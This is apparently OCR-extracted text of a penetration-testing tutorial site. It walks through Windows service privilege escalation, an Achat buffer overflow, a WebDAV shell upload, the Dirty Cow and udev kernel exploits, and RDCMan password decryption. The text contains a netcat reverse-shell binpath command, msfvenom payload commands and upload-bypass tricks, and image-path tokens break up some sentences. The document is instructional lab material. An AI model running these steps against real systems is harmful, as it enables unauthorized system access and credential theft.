BlackwinterSRV - Exploitation: Weak Windows services

blackwinterSrv.exe <-- Download/"Save As" by clicking the link (password: blackwinter)
.NET Framework (Target framework 4.0)

To install as a service:
C:\Windows\Microsoft.NET\Framework\v4.0.30319\InstallUtil.exe C:\Path_To_EscalationService\blackwinterSrv.exe

To uninstall service:
C:\Windows\Microsoft.NET\Framework\v4.0.30319\InstallUtil.exe -u C:\Path_To_EscalationService\blackwinterSrv.exe

Depending on your operating system security, you may receive the error: "Exception from HRESULT: 0x80131515" or similarmessage when installing the service. If so, right-click the program, select Properties, and check the box that says Unblock. If you unblock the file and still receive the same error message, move the service to a folder that your logged in user has permissions for such as the desktop. Additionally, if you see messages pertaining to the installation failing and a rollback being performed, you need to run the command prompt as an administrator or other privileged user.

Once installed successfully, the service will now display in the Services window:

Let's assume right now that you found a vulnerability in a WordPress plugin and now have a nice low privilege shell. After trying to find privilege escalation exploits for the operatingsystem and installed applications, nothing has turned up. So what's next to look for? Vulnerabilities can sometimes occur when an application is installed with SYSTEM-level permissions and is usable by the logged in user. In our case accesschk has found such an application.

We can look at this service in more detail by using the syntax: sc qc blackwinterSrv

What we can grab from this output is that the service is set to automatically start with Windows, we know the executable path, we can see if it has dependencies, and it displays LocalSystem access. Luckily this service does not contain a dependency. If a service does contain a dependency we would need to attempt to escalate using that service instead. In the case of older systems with the UPNPHOST vulnerability, we would need to instead run our commands against the dependency service SSDPSRV.

In rare cases, you may not be able (or want) to restart the box. If this is the case then we need to tell the service that we'll be starting it manually each time. To do so, we type: sc config blackwinterSrv start= "demand". Next, we need to tell the service to connect back to us. We do this by uploading netcat, then setting the binary path using the command: sc config blackwinterSrv binpath= “C:\temp_dir\nc.exe -nv 443 -e C:\WINDOWS\System32\cmd.exe” (in this case my temp_dir was set to the desktop). If this command fails and an error is produced, re-type the binpath using case-sensitive characters. We next make sure that there's no password set with the command: sc config blackwinterSrv obj= ".\LocalSystem" password= "". One final query of the service tells us we're all set to connect back to our box using: net start blackwinterSrv.

When we connect back and run the whoami command we see that we've successfullyconnected as the system user.

Command recap:

Achat - Exploitation: Buffer overflow

Download Achat from:, password: blackwinter or

Windows 7 SP1 x86

After a scan of the machine, two noticeably different ports are open from a normal Windows scan (9255, 9256). To see extra details while executing an nmap scan, either add the '-A' switch or add both '--reason' and '--version-intensity 5'options.

These ports display a program running on it called Achat which is a LAN communications programs. Achat is no longer maintained which is probably partially due to a vulnerability that existed. Using searchsploit, we can find a vulnerability that will help us leverage the box. After a normal searchsploit for achat displays a few extra applications not applicable, I drop the the results down to only Python files by adding '| grep .py'.

Once exploit is copied over to a working directory (or downloaded from, the only thing needed to do is to edit the IP address. In this instance, I've changed it to my vulnerable box

To capture our connection, a multi handler is set up with a staged payload of windows/shell_reverse_tcp. We need to create our payload using msfvenom, and to do this we run a command with a large list of bad characters:

This generates the shellcode that we can put inside the exploit (replacing the existing "example" shellcode).

The last step is to run the exploit from the attacker. After doing so the *Poof* output is shown.The box does not need any further exploitation as this exploit gives us administrator access.

WebDAV - Exploitation: Non-authenticated WebDAV connection

When WebDAV (Web Distributed Authoring and Versioning) is enabled and authentication is not added or is set to anonymous authentication, an attacker may be able to connect to the publishing directory and upload a reverse shell. Note: While this has been added to the Windows tutorial section, WebDAV can be installed on *nix installations.

Windows 2012 R2 x64

Details: After a nikto scan of the box (nikto -host the results indicated that WebDAV was available. Among the "verbs" found is one (MKCOL) that defines the ability to create directories inside of WebDAV.

After WebDAV is found, the next step is to figure out what can be uploaded to the folder. To do so the program Davtest is used. This program allows the user to create and test files and folders. The default syntax: davtest -url, creates a random directory and tests certain files to see if they're able to be uploaded and executed. In this case the Davtest results came back positive for text and html files but negative for asp files.

Two other options are commonly used with davtest. The first is the -cleanup option. This will attempt to automatically delete the files and folders created during the test. Do note that certain WebDAV folders do not allow the use of the delete command. The other option is -auth. In a davtest the syntax would be added as: -auth username:password.

Now that text and html objects have been identified as allowable, it's time to upload the shell.The asp file is generated: msfvenom -p windows/meterpreter/reverse_tcp LHOST= LPORT=443 -f asp -o shell.asp.

Since asp files are not allowed to be uploaded, the reverse shell will need to be changed to a different file extension. To upload to a WebDAV folder, I use the program Cadaver. It connects simply as 'cadaver'. Not all connections to a server allow viewing files within the root directory and by default the root usually has some sort of homepage. To get around that, a temporary folder is created.

First, the folder 'temp' is created with: mkdir temp. Next, the file is uploaded similar to FTP using: put shell.asp shell.txt. Remember that asp is not directly uploaded, so the file gets renamed with a .txt extension. Finally, the file is copied back to an asp extension using: copy shell.txt shell.asp. Do note that sometimes the 'move' command is blocked. And in some unpatched versions prior to Windows IIS 6.1, the "semicolon-dot" method may be allowed. If this were the case the command would change to: copy shell.txt shell.asp;.txt. Now that the shell is uploaded to the temp folder, it can be browsed to and clicked. Before clicking though, a multi handler is set up to catch our shell.

After thehandler is set up and the asp file is clicked, we catch our low privileged shell.


Dirty Cow - Exploitation: Linux kernel

Older Linux kernels suffer from multiple vulnerabilities. One such popular exploit is titled "Dirty Cow" and is able to attack kernels ranging from 2.6.22 < 4.8.3 (according to CVE-2016-5195). Due to the way memory is handled, we can use this attack to escalate to root.

Here I'm using the x86 version of Debian 5 found at: Assuming we're already on a low privilege shell, the command: uname -a is issued and displays the kernel version.

Here we see that the Linux version being run (2.6.26) is within the range dictated by the CVE. All we have left is to download and compile the code, run it, and enter a password.

After downloading the file using wget from I renamed the file to dirty.c (this is optional). It's also optional if you would like to edit the code with a text editor and replace instances of the name "firefart". According to the code directions, compile options need to be added. The command used to compile is: gcc -pthread dirty.c -o dirty -lcrypt. The code compiles without issue and I can give it executable permissions with 'chmod +x dirty'. The exploit will ask for a password, and once one is put in the program connects as root. (In some cases you may not have output to the screen. If this is the case, press CTRL+C)

The last thing to do is 'su' into the user account. After doing so, I verify that I have root permissions and that the entry is added into /etc/passwd.

Code Recap:

Exploitation: UDEV NETLINK messages

Description: (CVE-2009-1185) Udevbefore 1.4.1 does notverify whether a NETLINK message originates from kernel space, which allows local users to gain privileges by sending a NETLINK message from user space.

Version: The version used for this exploit tutorial is CentOS 5.7 x86

Details: In some cases there may not be a valid SUID bit set or application that we can exploit. In this case, we're relying on the suggested output produced by

From the output, there are two privilege escalation exploits available. For this tutorial, I'll be using the second recommendation, The file is grabbed 'wget' and put into /tmp. Giving the file execute privs and running it produces an error, so unfortunately this exploit isn't going to allow out-of-the-box execution. Taking a further look into the file with a text editor shows that the bash script is separated into multiple C code modules. We can break each portion up to the _EOF lines. We also need to ignore the gcc portion, as we'll run this manually. Oncedone, we should have our 3 files (Full source of the fixed code can be found at the end of the tutorial).

We begin to compile the files and receive an error when we get to suid.c.

This is due to the code missing the required headers. We add: "#include <stdlib.h>, #include<unistd.h>, and #include <sys/types.h>" to the top of suid.c. After adding in the headers, suid.c compiles successfully and we now have our 3 compiled binaries. There's a fourth file that's missing though. This file will be created by running the final command from the exploit: gcc -shared -Wl,-soname, -o program.o -nostartfiles. After doing so, we now have all 4 files.

The exploit mentions that it runs against Netlink. To find our Netlink number we type: cat /proc/net/netlink. We're now presented with the Netlink socket info which helps process information between the kernel and user. What we're looking for is the PID in front of the group "ffffffff". In this case, my PID displays 570 (the PID value will vary for different installations). Although the process ID displays 571, it's the actual netlink process ID that we want to focus on. In most cases this will be the udev PID - 1. To verify that we're using the correct PID, we can type: ps aux | grep udev as shown below.Again, this verifies that we're attacking the correct process and the exploit is ready to be run. Before execution, I checked that the user did not have root permissions and could not access the /root directory. After running the command './udev 570' root access was granted and /root is accessible.

Code Recap:






RDCMan - Decrypt Microsoft Remote Desktop Manager passwords (RDCman)

Note: Once compiled, the executable and RDCman.dll will need to be in the same folder.Open the .rdg file with a text editor and copy in the password section as shown below:


After pasting the encrypted string, the cleartext password is displayed

ConsoleApp.exe code language: C#

Powershell code below courtesy of badc0d3

Postman - Installation on Kali and Ubuntu

Tutorial courtesy of badc0d3


Postman is a great alternative too the traditional command line curl. It allows you to construct different types of call to any website as well as chain commands together for even more advance automation.

How to install:

  • wget -O postman.tar.gz
  • sudo tar -xzf postman.tar.gz -C /opt
  • rm postman.tar.gz
  • sudo ln -s /opt/Postman/Postman /usr/bin/postman
  • apt-get install libgconf-2-4

Add to Kali menu:• apt-get install alacarte

  • You should now have a new entry in Usual Applications > Accessories > Main Menu
  • Open Main Menu
  • Select the Location you want to add Postman too (I used "Web Application Analysis")

  • Click on the "New Item" button
  • Fill Out the Launcher Properties
  • Name: Postman
  • Command: postman
  • Icon: click on the icon and select the following png "/opt/Postman/resources/app/assets/icon.png"

Add to Ubuntu:
Create the following file"~/.local/share/applications/postman.desktop" and thenadd the content below